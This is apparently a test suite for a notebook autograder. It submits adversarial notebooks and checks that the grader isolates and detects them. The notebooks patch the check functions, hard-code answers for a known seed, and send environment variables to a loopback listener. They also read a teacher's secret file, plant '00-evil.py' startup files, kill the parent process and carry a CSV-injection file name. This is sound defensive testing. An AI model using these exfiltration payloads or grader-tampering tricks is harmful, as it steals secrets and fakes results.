"""One adversarial learner must not change anyone's grade: a class of chapter 09 made of honest
learners and one submission per attack, graded once (module fixture, two kernels at a time).

The attacks stay safe on a developer's machine: the network is a listener on 127.0.0.1 that the
test itself opens, the files attacked are in the test's own temporary folders (the course's
folder only gets a probe file name that the test removes if it appears), and every sleep is bounded.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest
import test_classroom as tc

import attnkit
from attnkit.classroom import grade, isolation, write_csv, write_html
from attnkit.classroom.originals import ClassroomError
from attnkit.classroom.safety import csv_cell, shown, tampering
from attnkit.exercises import OUTCOME_MIME

EXERCISES = tc.load_original("09", "en", tc.chapters_dir()).exercises  # in the notebook's order
SEED = 4242  # the teacher's --seed: the test knows the cases the check cells run, as a cheater might
GBK_NAME = b"\xd5\xc5\xc8\xfd"  # 张三 in GBK: not UTF-8
SECRET = "teacher-secret-7f3a"
PROBE_FILE = Path(attnkit.__file__).resolve().parent / "exercises" / "_adversarial_probe.py"


def handout():
    return tc.built()


def solved():
    nb = handout()
    for ex in EXERCISES:
        tc.answer(nb, ex, "solve")
    return nb


def add_cell(nb, source: str, before_exercise: str = "ch09.ex1"):
    """``source`` as a new code cell just before the cell defining the first exercise's stub."""
    _, arg = tc._check_cells(nb)[before_exercise]
    at = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and f"def {arg}(" in c.source)
    nb.cells.insert(at, nbformat.v4.new_code_cell(source))
    return nb


PASSED = ("from IPython.display import display\n"
          f"for ex in {EXERCISES!r}:\n"
          f"    display({{'{OUTCOME_MIME}': {{'exercise': ex, 'status': 'passed', 'case': None, 'label': None,"
          " 'feedback': 'ok', 'solution': False}, 'text/plain': 'ok'}, raw=True)\n")
PATCH_MODULE = ("import attnkit.exercises as X\nimport attnkit.exercises.ch09 as E\n"
                "E.run_checks = X.run_checks = lambda *a, **k: True\n"
                "E.check_answer = X.check_answer = lambda *a, **k: True\n")
REDEFINE = "\n".join(f"def {fn}(*a, **k):\n    return True\n" for fn in
                     ("check_step", "check_positive_features", "check_landmarks", "check_q1", "check_q2",
                      "check_causal_linear"))
ALLCLOSE = "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.testing.assert_close = lambda *a, **k: None\n"


def stub_of(nb, ex):
    _, arg = tc._check_cells(nb)[ex]
    cell = next(c for c in nb.cells if c.cell_type == "code" and f"def {arg}(" in c.source)
    import ast
    params = next(n for n in ast.parse(cell.source).body if isinstance(n, ast.FunctionDef) and n.name == arg)
    return cell, arg, ast.unparse(params.args)


def hard_coded_and_two_faced():
    """ex1: outputs hard-coded for every case the check cell runs (visible and drawn from the
    teacher's seed, known here), zeros elsewhere; ex3: right on the check cell's calls, wrong once
    the grader's own cases come (a function that knows when it is being graded)."""
    from attnkit.exercises import registry

    nb = handout()
    ex1 = registry(("ch09",))["ch09.ex1"]
    table = {repr([round(v, 9) for a in c.args for v in a.flatten().tolist()]):
             [e.tolist() for e in ex1.expected(c)] for c in ex1.cases(SEED)}
    cell, arg, params = stub_of(nb, "ch09.ex1")
    names = ", ".join(p.split("=")[0].split(":")[0].strip() for p in params.split(","))
    cell.source = tc._replace_def(cell.source, arg, (
        f"TABLE = {table!r}\n\ndef {arg}({params}):\n"
        "    import torch\n"
        f"    key = repr([round(v, 9) for a in ({names},) for v in a.flatten().tolist()])\n"
        "    if key in TABLE:\n"
        "        return tuple(torch.tensor(x, dtype=torch.float64) for x in TABLE[key])\n"
        "    return tuple(torch.zeros(len(x) if isinstance(x, list) else 1, dtype=torch.float64)\n"
        "                 for x in next(iter(TABLE.values())))\n"))
    n3 = len(registry(("ch09",))["ch09.ex3"].cases(SEED))
    cell, arg, params = stub_of(nb, "ch09.ex3")
    names = ", ".join(p.split("=")[0].split(":")[0].strip() for p in params.split(","))
    honest = tc.honest_source("ch09.ex3", "_honest_landmarks")
    cell.source = tc._replace_def(cell.source, arg, (
        f"{honest}\n\nCALLS = [0]\n\ndef {arg}({params}):\n"
        "    CALLS[0] += 1\n"
        f"    out = _honest_landmarks({names})\n"
        f"    return out if CALLS[0] <= {n3} else out + 1\n"))
    return nb


# evasions of the static scan's first version, each on a line of its own; with wrong answers, the
# check cells publish passes (run_checks patched to record one) and the values sent to the grader
# are forged from the kernel's own reference solutions: only the scan catches this learner
EVASIONS = """import attnkit.exercises as X
REG = X.registry(("ch09",))
def ok(fn, solution, cases, title, *a, exercise=None, **k):
    X._record(exercise, "passed", ["ok"]); return True
type(X).__setattr__(X, "run_checks", ok)
object.__setattr__(ok, "__doc__", "harmless")
m = __import__("importlib").import_module("attnkit.exercises.ch09")
vars(m)["run_checks"] = ok
import builtins
builtins.__dict__["print"] = print
import pickle
pickle.loads(pickle.dumps(1))
import marshal
marshal.loads(marshal.dumps(1))
from attnkit.exercises import Exercise
Exercise.prepare = lambda self, fn: self.solution
from attnkit.classroom import values as V
real = V.answer
def fake_answer(exercise, get, cases, how):
    ex = REG[exercise]
    return real(exercise, (lambda: ex.solution) if how != "value" else (lambda: ex.expected_answer), cases, how)
V.answer = fake_answer
"""
EVIDENCE = ("type(X).__setattr__", "object.__setattr__", "__import__", "vars(m)", "builtins.__dict__", "pickle.loads",
            "marshal.loads", "Exercise.prepare", "V.answer = fake_answer")


def probe_cells(listen_port: int, folder: Path, teacher_home: Path, out: Path) -> str:
    """Every harm at once, and what the learner could see, raised as ex1's error (its feedback)."""
    return f"""
import json, os, socket, subprocess, sys
FACTS = {{}}
def attempt(name, fn):
    try:
        FACTS[name] = repr(fn())[:200]
    except BaseException as err:
        FACTS[name] = 'refused: ' + type(err).__name__
def tcp():
    s = socket.create_connection(('127.0.0.1', {listen_port}), timeout=2)
    s.sendall(json.dumps(dict(os.environ)).encode()); s.close(); return 'sent'
def raw():
    import _socket
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM); s.settimeout(2)
    s.connect(('127.0.0.1', {listen_port})); s.send(b'raw'); s.close(); return 'sent'
def sub():
    return subprocess.run([sys.executable, '-c', "import socket; socket.create_connection(('127.0.0.1', {listen_port}), timeout=2).send(b'sub')"],
                          capture_output=True, timeout=20).returncode
attempt('tcp', tcp); attempt('raw_socket', raw); attempt('subprocess', sub)
attempt('secret_env', lambda: os.environ.get('ATTNKIT_TEACHER_SECRET'))
attempt('teacher_home', lambda: open({str(teacher_home / 'secret.txt')!r}).read())
attempt('teacher_startup', lambda: (os.makedirs({str(teacher_home / '.ipython/profile_default/startup')!r}, exist_ok=True),
        open({str(teacher_home / '.ipython/profile_default/startup/00-evil.py')!r}, 'w').write('raise SystemExit')))
attempt('own_startup', lambda: (os.makedirs(os.path.expanduser('~/.ipython/profile_default/startup'), exist_ok=True),
        open(os.path.expanduser('~/.ipython/profile_default/startup/00-evil.py'), 'w').write('x = 1')))
attempt('overwrite_classmate', lambda: open({str(folder / 'honest.ipynb')!r}, 'w').write('{{}}'))
attempt('phantom', lambda: open({str(folder / 'phantom.ipynb')!r}, 'w').write('{{}}'))
attempt('read_classmate', lambda: len(open({str(folder / 'honest.ipynb')!r}).read()))
attempt('course', lambda: open({str(PROBE_FILE)!r}, 'w').write('x = 1'))
attempt('report', lambda: open({str(out / 'report.html')!r}, 'w').write('forged'))
attempt('processes', lambda: sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))
def kernels():
    found = []
    for p in os.listdir('/proc'):
        if p.isdigit() and int(p) not in (os.getpid(), os.getppid()):
            try:
                line = open(f'/proc/{{p}}/cmdline').read()
            except OSError:
                continue
            if 'ipykernel' in line:
                found.append(line)
    return found
attempt('kernels', kernels)
import glob, tempfile
attempt('other_notebooks', lambda: [p for p in glob.glob('/tmp/attnkit-grade-*') + glob.glob(tempfile.gettempdir()
        + '/attnkit-grade-*') if os.path.realpath(p) != os.path.realpath(os.path.dirname(os.getcwd()))])
attempt('detached', lambda: subprocess.Popen([sys.executable, '-c', "import time; time.sleep(3); "
        "open({str(out / 'late.txt')!r}, 'w').write('late')"], start_new_session=True).pid)
"""


def probe_answer(nb):
    """ex1 raises the facts (its feedback shows them); ex2 raises 5 MB (feedback is capped)."""
    for ex, body in (("ch09.ex1", "    raise RuntimeError('FACTS ' + json.dumps(FACTS))\n"),
                     ("ch09.ex2", "    raise RuntimeError('x' * 5_000_000)\n")):
        _, arg = tc._check_cells(nb)[ex]
        stub = next(c for c in nb.cells if c.cell_type == "code" and f"def {arg}(" in c.source)
        import ast
        params = next(n for n in ast.parse(stub.source).body if isinstance(n, ast.FunctionDef) and n.name == arg)
        stub.source = tc._replace_def(stub.source, arg, f"def {arg}({ast.unparse(params.args)}):\n{body}")
    return nb


class Listener:
    """A TCP listener on 127.0.0.1 that records what connects to it (bounded: closes itself)."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port, self.got, self.stop = self.sock.getsockname()[1], [], False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.got.append(conn.recv(1 << 16))
            except OSError:
                self.got.append(b"")
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(5)
        self.sock.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("adversarial")
    folder, out, home = root / "returned", root / "out", root / "teacher_home"
    for d in (folder, out, home):
        d.mkdir()
    (home / "secret.txt").write_text(SECRET)
    (out / "report.html").write_text("the last report")
    listener = Listener()
    tc.write(solved(), folder / "honest.ipynb")
    v3 = nbformat.convert(solved(), 3)
    (folder / "honest_v3.ipynb").write_text(nbformat.writes(v3, version=3))
    tc.write(add_cell(handout(), PASSED), folder / os.fsdecode(GBK_NAME + b".ipynb"))
    tc.write(add_cell(handout(), REDEFINE), folder / "=1+1.ipynb")
    tc.write(add_cell(handout(), PATCH_MODULE), folder / "patch_module.ipynb")
    nb = handout()  # torch.allclose patched inside a grade-skip cell, with wrong answers
    skip = next(c for c in nb.cells if "grade-skip" in c.metadata.get("tags", []))
    skip.source += "\n" + ALLCLOSE
    for ex in ("ch09.ex1", "ch09.ex2"):
        tc.answer(nb, ex, "wrong")
    tc.write(nb, folder / "skip_cell_allclose.ipynb")
    nb = handout()
    checks = tc.load_original("09", "en", tc.chapters_dir()).checks
    for ex, (i, arg) in tc._check_cells(nb).items():  # the check cells call their check on something else
        cell = nb.cells[i]
        cell.source = cell.source.replace(f"{checks[ex]}({arg})", f"{checks[ex]}(None)") + \
            ("\n" + PASSED if ex == "ch09.ex1" else "")
        assert f"{checks[ex]}(None)" in cell.source
    tc.write(nb, folder / "edited_check.ipynb")
    tc.write(add_cell(handout(), "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
                      "os.kill(os.getppid(), signal.SIGTERM)\n"), folder / "killer.ipynb")
    tc.write(probe_answer(add_cell(handout(), probe_cells(listener.port, folder, home, out))), folder / "probe.ipynb")
    tc.write(hard_coded_and_two_faced(), folder / "hard_coded.ipynb")
    nb = add_cell(handout(), EVASIONS)
    for ex in ("ch09.ex1", "ch09.ex2", "ch09.ex3", "ch09.ex4"):
        tc.answer(nb, ex, "wrong")
    tc.write(nb, folder / "evasions.ipynb")
    before = tc.snapshot(folder)
    lines = []
    saved = {k: os.environ.get(k) for k in ("HOME", "ATTNKIT_TEACHER_SECRET")}
    os.environ.update(HOME=str(home), ATTNKIT_TEACHER_SECRET=SECRET)
    start = time.perf_counter()
    try:
        g = grade([folder], timeout=tc.TIMEOUT, jobs=2, seed=SEED,
                  progress=lambda k, n, r: lines.append((k, n, r.learner)))
    finally:
        for k, v in saved.items():
            os.environ.pop(k, None) if v is None else os.environ.__setitem__(k, v)
    seconds = time.perf_counter() - start
    write_html(g, out / "report.html", "en")
    write_csv(g, out / "report.csv", "en")
    time.sleep(4)  # the detached process had 3 s to write late.txt
    listener.close()
    probe_written = PROBE_FILE.exists()
    PROBE_FILE.unlink(missing_ok=True)
    yield {"g": g, "folder": folder, "out": out, "home": home, "before": before, "lines": lines,
           "listener": listener, "probe_written": probe_written, "seconds": seconds,
           "rows": {r.learner: r for r in g.results}}


def statuses(res):
    return {ex: o["status"] for ex, o in res.outcomes.items()}


def facts(attacked):
    fb = attacked["rows"]["probe"].outcomes["ch09.ex1"]["feedback"]
    return json.loads(re.search(r"FACTS (\{.*\})", fb).group(1))


ISOLATED = isolation.probe()[0] != "none"


def test_honest_learners_pass_every_exercise_v3_included(attacked):
    rows = attacked["rows"]
    assert statuses(rows["honest"]) == dict.fromkeys(EXERCISES, "passed")
    assert statuses(rows["honest_v3"]) == dict.fromkeys(EXERCISES, "passed")  # nbformat 3, upgraded


@pytest.mark.parametrize("learner", ["gbk", "=1+1", "patch_module", "skip_cell_allclose", "edited_check", "killer",
                                     "probe", "hard_coded", "evasions"])
def test_no_attack_earns_a_pass(attacked, learner):
    rows = attacked["rows"]
    name = shown(os.fsdecode(GBK_NAME)) if learner == "gbk" else learner
    assert not any(s == "passed" for s in statuses(rows[name]).values()), statuses(rows[name])
    assert len(rows[name].outcomes) == len(EXERCISES)


def test_records_from_other_cells_are_ignored_and_edited_check_cells_restored(attacked):
    rows = attacked["rows"]
    # the displayed records are not the checker's: the exercises stay not attempted
    assert statuses(rows[shown(os.fsdecode(GBK_NAME))]) == dict.fromkeys(EXERCISES, "todo")
    edited = rows["edited_check"]
    assert statuses(edited) == dict.fromkeys(EXERCISES, "todo")
    assert any(key == "classroom.note.restored" for key, _ in edited.notes)
    # the patches are flagged with their lines as evidence
    for name, line in (("=1+1", "def check_step"), ("patch_module", "E.run_checks"),
                       ("skip_cell_allclose", "torch.allclose")):
        ev = [fmt["evidence"] for key, fmt in rows[name].notes if key == "classroom.note.tampered"]
        assert ev and line in ev[0], (name, rows[name].notes)


def test_the_run_survives_a_learner_killing_its_parent_and_reports_everyone(attacked):
    g = attacked["g"]
    assert len(g.results) == len(attacked["before"]) == 11
    assert {k for k, _, _ in attacked["lines"]} == set(range(1, 12))
    assert all(r.problem is None for r in g.results), [(r.learner, r.problem) for r in g.results if r.problem]


def test_no_submission_the_report_or_the_course_is_changed(attacked):
    assert tc.snapshot(attacked["folder"]) == attacked["before"]  # no overwrite, no phantom
    assert not any(any(k == "classroom.note.submission_changed" for k, _ in r.notes) for r in attacked["g"].results)
    assert not attacked["probe_written"]
    assert not (attacked["out"] / "late.txt").exists()  # the detached process was killed with its kernel
    assert not list(attacked["home"].rglob("00-evil.py"))  # no startup file in the teacher's HOME
    text = (attacked["out"] / "report.html").read_text(encoding="utf-8")
    assert "forged" not in text and "Class report" in text


@pytest.mark.skipif(not ISOLATED, reason="no namespaces on this system: the report says 'not isolated'")
def test_no_network_no_teacher_environment_or_home_no_other_processes(attacked):
    f = facts(attacked)
    assert attacked["listener"].got == []
    assert f["tcp"].startswith("refused") and f["raw_socket"].startswith("refused")
    assert f["subprocess"] != "0"
    assert f["secret_env"] == "None"
    assert SECRET not in f["teacher_home"] and f["teacher_startup"].startswith("refused")
    assert f["read_classmate"].startswith("refused")
    assert f["kernels"] == "[]"  # its own PID namespace: no classmate's kernel to connect to
    assert f["other_notebooks"] == "[]"  # nor their folders, sockets and connection files
    assert f["own_startup"] == "(None, 5)"  # written into its temporary HOME, gone with it
    assert SECRET not in (attacked["out"] / "report.html").read_text(encoding="utf-8")


def test_the_report_says_which_isolation_each_notebook_got(attacked):
    labels = {r.isolation for r in attacked["g"].results}
    if isolation.uids_work():  # as root: a user of its own per notebook graded at once, a process limit
        assert len(labels) == 2 and all(f"at most {isolation.NPROC} processes" in x for x in labels)
        label = "as user"
    else:
        (label,) = labels
        assert label == isolation.label(isolation.probe()[0])
    text = (attacked["out"] / "report.html").read_text(encoding="utf-8")
    assert text.count(label) >= 11
    if not ISOLATED:
        assert "not isolated" in label


def test_non_utf8_names_feedback_cap_and_csv_injection(attacked):
    rows = attacked["rows"]
    assert shown(os.fsdecode(GBK_NAME)) == "\\xd5\\xc5\\xc8\\xfd (GBK: 张三)"
    assert shown(os.fsdecode(GBK_NAME)) in (attacked["out"] / "report.html").read_text(encoding="utf-8")
    assert len(rows["probe"].outcomes["ch09.ex2"]["feedback"]) < 64 * 1024 + 100
    table = list(csv.reader(io.StringIO((attacked["out"] / "report.csv").read_text(encoding="utf-8-sig"))))
    assert any(row[0] == "'=1+1" for row in table)
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in table for cell in row)


# ---- without kernels ----

def test_csv_cells_and_names_escape():
    assert [csv_cell(x) for x in ("=A1", "+1", "-2", "@x", "\tx", "\rx", "ok", "")] == \
        ["'=A1", "'+1", "'-2", "'@x", "'\tx", "'\rx", "ok", ""]
    assert shown("plain") == "plain" and shown("张三") == "张三"
    assert shown(os.fsdecode(b"\xff\xfe")) == "\\xff\\xfe"  # neither UTF-8 nor GBK


def test_the_report_is_replaced_atomically_never_through_a_symlink_or_into_submissions(tmp_path):
    from attnkit.classroom.grading import Graded

    sub = tmp_path / "returned"
    sub.mkdir()
    (sub / "alice.ipynb").write_text("{}")
    g = Graded(chapter="09", lang="en", exercises=[], results=[], folders=[sub.resolve()])
    report = tmp_path / "report.html"
    report.write_text("old report")
    write_html(g, report, "en")
    assert "Class report" in report.read_text(encoding="utf-8")
    link = tmp_path / "link.html"
    link.symlink_to(sub / "alice.ipynb")
    for target in (link, sub / "report.html", sub / "alice.ipynb"):
        with pytest.raises(ClassroomError, match="refusing"):
            write_html(g, target, "en")
    assert (sub / "alice.ipynb").read_text() == "{}" and not (sub / "report.html").exists()
    # a failure while writing leaves the old report whole (never 0 bytes)
    import attnkit.classroom.report as R
    real = R.html_report
    R.html_report = lambda *a: "\udcff"  # cannot be encoded
    try:
        with pytest.raises(UnicodeEncodeError):
            write_html(g, report, "en")
    finally:
        R.html_report = real
    assert "Class report" in report.read_text(encoding="utf-8")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".report")] == []


def test_the_scan_flags_what_reaches_for_the_grading_and_not_honest_answers():
    for src in (PATCH_MODULE, REDEFINE, ALLCLOSE, PASSED, "exec(code)", "import inspect\ninspect.getsource(f)",
                "import os\nos.kill(os.getppid(), 9)", "globals()['check_step'] = f"):
        assert tampering(src), src
    for ex in [e for e in EXERCISES if ".ex" in e]:
        assert tampering(tc.honest_source(ex, "my_fn")) == [], ex
    assert tampering("my_answer = 'linear'\n_ = check_q1(my_answer)") == []


def test_the_command_line_refuses_a_symlinked_report_before_grading(tmp_path, capsys):
    from attnkit.classroom.__main__ import main

    sub = tmp_path / "returned"
    sub.mkdir()
    tc.write(handout(), sub / "alice.ipynb")
    before = tc.snapshot(sub)
    (tmp_path / "report.html").symlink_to(tmp_path / "elsewhere.html")
    assert main(["grade", str(sub), "--out", str(tmp_path / "report.html"), "--lang", "en"]) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert main(["grade", str(sub), "--out", str(sub / "report.html"), "--lang", "en"]) == 2
    assert "inside the submissions folder" in capsys.readouterr().err
    assert main(["grade", str(sub), "--out", str(tmp_path / "r.html"), "--memory", "0.5"]) == 2
    assert "--memory" in capsys.readouterr().err
    assert tc.snapshot(sub) == before and not (sub / "report.html").exists()


@pytest.mark.parametrize("level", ["user", "none"])
def test_weaker_levels_still_grade_and_kill_what_the_kernel_left(level, tmp_path, monkeypatch):
    """The user-namespace level (what a normal user gets) and the fallback (no namespaces), forced:
    each notebook still gets its row and its label; a setsid'd process dies with its kernel; in a
    user namespace the network and the submissions stay out of reach as well."""
    sub, out = tmp_path / "returned", tmp_path / "out"
    sub.mkdir()
    out.mkdir()
    listener = Listener()
    cell = (f"import os, socket, subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', \"import time; time.sleep(3); open({str(out / 'late.txt')!r}, 'w')\"],"
            " start_new_session=True)\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {listener.port}), timeout=2).send(b'x')\n"
            "except OSError:\n    pass\n"
            "try:\n"
            f"    open({str(sub / 'phantom.ipynb')!r}, 'w').write('{{}}')\n"
            "except OSError:\n    pass\n"
            "os._exit(0)\n")
    nb = handout()
    nb.cells.insert(1, nbformat.v4.new_code_cell(cell))
    tc.write(nb, sub / "leaver.ipynb")
    monkeypatch.setenv("ATTNKIT_ISOLATION", level)
    isolation.probe.cache_clear()
    try:
        g = grade([sub], timeout=tc.TIMEOUT, jobs=1, keep=tmp_path / "kept")
    finally:
        monkeypatch.delenv("ATTNKIT_ISOLATION")
        isolation.probe.cache_clear()
    time.sleep(4)
    listener.close()
    (res,) = g.results
    assert res.problem is None and len(res.outcomes) == len(EXERCISES)
    assert res.isolation == isolation.label("user" if level == "user" else "none")
    assert not (out / "late.txt").exists()
    if level == "none":  # the prelude's accident guard refuses no loopback address (the old one raised NameError)
        assert listener.got == [b"x"]
    (kept,) = (tmp_path / "kept").iterdir()  # the audit trail: the executed copy, named with its sha256
    assert res.sha256[:12] in kept.name and nbformat.read(kept, as_version=4).cells
    import torch
    assert g.audit["torch"] == torch.__version__ and len(g.audit["attnkit"]) == 64 and len(res.sha256) == 64
    if level == "user":
        assert listener.got == [] and not (sub / "phantom.ipynb").exists()


# ---- the grader's own comparison, the seed, the evasions ----

def test_the_grader_compares_in_its_own_process_and_hard_coded_or_two_faced_answers_fail(attacked):
    rows = attacked["rows"]
    honest = rows["honest"].outcomes
    assert all(o.get("grader") == "passed" for o in honest.values()), honest
    hard = rows["hard_coded"].outcomes
    # ex1: every case the check cell runs is hard-coded, so the check cell passes; the grader's own
    # case drawn from seed + 1 fails
    assert hard["ch09.ex1"]["status"] == "failed" and hard["ch09.ex1"]["grader"] == "failed"
    assert f"seed {SEED + 1}" in hard["ch09.ex1"]["feedback"], hard["ch09.ex1"]
    # ex3: right while the check cell runs, wrong for the grader: the two disagree -> tampering evidence
    assert hard["ch09.ex3"]["status"] == "tampered", hard["ch09.ex3"]
    assert "the check cell said passed" in hard["ch09.ex3"]["feedback"]
    assert any(k == "classroom.note.disagree" and "ch09.ex3" in f["exercises"] for k, f in rows["hard_coded"].notes)
    assert not any(k == "classroom.note.tampered" for k, _ in rows["hard_coded"].notes)  # the scan saw nothing


def test_evasions_of_the_scan_are_caught_with_their_lines(attacked):
    res = attacked["rows"]["evasions"]
    assert not any(o["status"] == "passed" for o in res.outcomes.values()), statuses(res)
    # what the patched kernel claims: passes from the check cells and the solutions' values for the
    # grader (the questions' checker is not patched: not answered)
    code = [ex for ex in EXERCISES if ".ex" in ex]
    assert {res.outcomes[ex]["status"] for ex in code} == {"tampered"}, statuses(res)
    assert "passed" in {res.outcomes[ex]["grader"] for ex in code}, statuses(res)
    (evidence,) = [f["evidence"] for k, f in res.notes if k == "classroom.note.tampered"]
    for line in EVIDENCE:
        assert line in evidence, (line, evidence)


def test_the_seed_is_in_the_audit_and_memory_figures_are_marked_as_the_learners_own(attacked):
    g = attacked["g"]
    assert g.audit["seed"] == SEED
    text = (attacked["out"] / "report.html").read_text(encoding="utf-8")
    assert f"seed {SEED}" in text
    ex4 = attacked["rows"]["honest"].outcomes["ch09.ex4"]
    assert ex4["status"] == "passed" and ex4["inside"] == "memory"
    assert text.count("memory peak measured inside the learner&#x27;s process: not guaranteed") >= 2


def _cannot_run(why: str) -> None:
    """Skip where the system allows no such isolation (a teacher's laptop); fail where it must work:
    CI sets ATTNKIT_NONROOT_REQUIRED=1 (.ci/run), so neither user test can vanish there as a skip."""
    if os.environ.get("ATTNKIT_NONROOT_REQUIRED"):
        pytest.fail(why)
    pytest.skip(why)


def test_concurrent_notebooks_run_as_different_users_when_the_grader_is_root(attacked):
    if not isolation.uids_work():
        _cannot_run("not root, or no namespaces: kernels run as the grader's user (the label says so)")
    users = [re.search(r"as user (\d+)", r.isolation).group(1) for r in attacked["g"].results]
    assert len(set(users)) == 2  # two jobs: two users, never shared by notebooks graded at the same time
    assert all(int(u) >= isolation.UID_BASE for u in users)


def test_values_cannot_carry_code_and_decode_what_was_encoded():
    import torch

    from attnkit.classroom.values import Opaque, ValueFormatError, decode, encode

    x = (torch.arange(6, dtype=torch.float64).view(2, 3), [1, 2.5, float("nan")], {"a": True}, None, "s", 1 << 60)
    back = decode(json.loads(json.dumps(encode(x))))
    assert torch.equal(back[0], x[0]) and back[0].dtype == torch.float64 and back[2:] == x[2:]
    assert back[1][:2] == [1, 2.5] and back[1][2] != back[1][2]
    assert isinstance(decode(encode(object())), Opaque)
    a = torch.randn(6, 5, dtype=torch.float64)
    for t in (torch.tensor(3.5), a.T, a[:, 1], a[2:4].T, torch.empty(0, 3)):  # 0-d, views, empty
        assert torch.equal(decode(json.loads(json.dumps(encode(t)))), t)
    from attnkit.factory import AttentionConfig, TinyLM

    model = TinyLM(16, [AttentionConfig("local", d_model=16, n_heads=2, causal=True, window_size=4, seed=3),
                        AttentionConfig("linear", d_model=16, n_heads=2, causal=True, seed=5)], max_len=12)
    again = decode(json.loads(json.dumps(encode(model))))  # a model: its config and weights
    tokens = torch.randint(0, 16, (2, 12), generator=torch.Generator().manual_seed(0))
    assert torch.equal(model(tokens), again(tokens)) and again.configs == model.configs
    for bad in ({"t": "pickle", "v": "gASVAAAA"}, {"t": "tensor", "dtype": "object", "shape": [1], "data": ""},
                {"t": "tensor", "dtype": "float32", "shape": [2], "data": "AAAA"}, [1, 2], {"no": "tag"}):
        with pytest.raises(ValueFormatError):
            decode(bad)


def test_the_same_seed_draws_the_same_cases_and_a_passed_check_needs_the_graders_agreement():
    from attnkit.classroom import crosscheck
    from attnkit.classroom.values import encode
    from attnkit.exercises import registry

    a, why = crosscheck.plan("09", SEED)
    assert why is None
    again = registry(("ch09",))["ch09.ex1"]
    cases = again.cases(SEED) + again.cases(SEED + 1)[len(again.visible):]  # what a regrade with SEED sends
    assert json.dumps(encode([(c.args, c.kwargs) for c in cases])) == a["ch09.ex1"].payload
    other = again.cases(SEED + 7)[len(again.visible):]
    assert other and json.dumps(encode((other[0].args, other[0].kwargs))) not in a["ch09.ex1"].payload
    spec = a["ch09.ex3"]
    out = {"status": "passed", "case": None, "label": None, "feedback": ""}
    wrong = {"results": [{"ok": {"t": "object", "type": "x"}}] * len(spec.cases)}
    assert crosscheck.combine(dict(out), spec, wrong, SEED) is True
    missing = dict(out)
    crosscheck.combine(missing, spec, None, SEED)
    assert missing["status"] == "error"
    failed = dict(out, status="failed")
    assert crosscheck.combine(failed, spec, wrong, SEED) is False and failed["status"] == "failed"


def test_a_teacher_who_is_not_root_gets_a_report(tmp_path):
    """The grader itself as an unprivileged user (as root: a user id of the reserved range, in a
    mount namespace where /root, holding Python, is covered and Python bound back)."""
    import shutil
    import subprocess
    import sys
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="attnkit-teacher-"))  # not under pytest's folder (mode 0700)
    (base / "returned").mkdir()
    tc.write(solved(), base / "returned" / "honest.ipynb")
    cmd = [sys.executable, "-m", "attnkit.classroom", "grade", str(base / "returned"), "--out",
           str(base / "report.html"), "--csv", str(base / "report.csv"), "--lang", "en",
           "--timeout", "120", "--seed", str(SEED)]  # one process grades alone: no per-kernel hurry
    env = {k: v for k, v in os.environ.items() if k != "ATTNKIT_ISOLATION"}
    env.update(HOME=str(base), ATTNKIT_CHAPTERS=str(tc.chapters_dir()))
    if os.geteuid() == 0:
        teacher = isolation.UID_BASE - 2
        for p in [base, *base.rglob("*")]:
            os.chown(p, teacher, teacher)
        closed = isolation.closed_ancestors()
        blocked = [str(p) for p in (base.parent, *base.parent.parents, *map(Path, [tc.chapters_dir(), *isolation.needed()]))
                   if not os.stat(p).st_mode & 0o001 and not any(str(p) == c or str(p).startswith(c + "/") for c in closed)]
        if blocked or not shutil.which("unshare"):
            why = f"{blocked} cannot be entered by another user" if blocked else "no unshare"
            shutil.rmtree(base, ignore_errors=True)
            _cannot_run(f"the non-root grading run cannot start: {why}")
        wrap = ["unshare", "--mount", "--propagation", "private", sys.executable, "-I", str(isolation.SANDBOX),
                "--marker", "nonroot" + os.urandom(6).hex(), "--uid", str(teacher)]
        for folder, inside in closed.items():
            wrap += ["--cover", folder] + [x for k in inside for x in ("--keep", k)]
        cmd = [*wrap, "--", *cmd]
    try:
        done = subprocess.run(cmd, capture_output=True, text=True, timeout=600, env=env, cwd=base)
        report = (base / "report.html").read_text(encoding="utf-8") if (base / "report.html").exists() else ""
        table = (base / "report.csv").read_text(encoding="utf-8-sig") if (base / "report.csv").exists() else ""
    finally:
        shutil.rmtree(base, ignore_errors=True)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    text = report
    assert "Class report" in text and f"seed {SEED}" in text
    assert "as root" not in text and ("user namespace" in text or "not isolated" in text)
    rows = {r[0]: r for r in csv.reader(io.StringIO(table))}
    n = len(EXERCISES)
    assert rows["honest"][4:4 + n] == ["passed"] * n and rows["honest"][4 + n] == str(n)
